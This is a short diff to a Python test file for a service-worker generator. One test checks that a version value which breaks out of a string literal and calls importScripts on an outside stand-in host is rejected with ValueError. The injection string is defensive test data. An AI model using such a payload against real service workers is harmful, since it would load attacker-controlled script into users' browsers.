@@ -24,6 +24,6 @@ def test_the_offline_page_is_whole_in_every_language(language: str) -> None:
 
 
 def test_the_worker_version_must_be_a_fingerprint() -> None:
-    assert b'const VERSION = "0a1b";' in service_worker("0a1b", [])
+    assert b'const VERSION = "0a1b";' in service_worker("0a1b")
     with pytest.raises(ValueError):
-        service_worker('"; importScripts("https://elsewhere.example/x.js"); "', [])
+        service_worker('"; importScripts("https://elsewhere.example/x.js"); "')
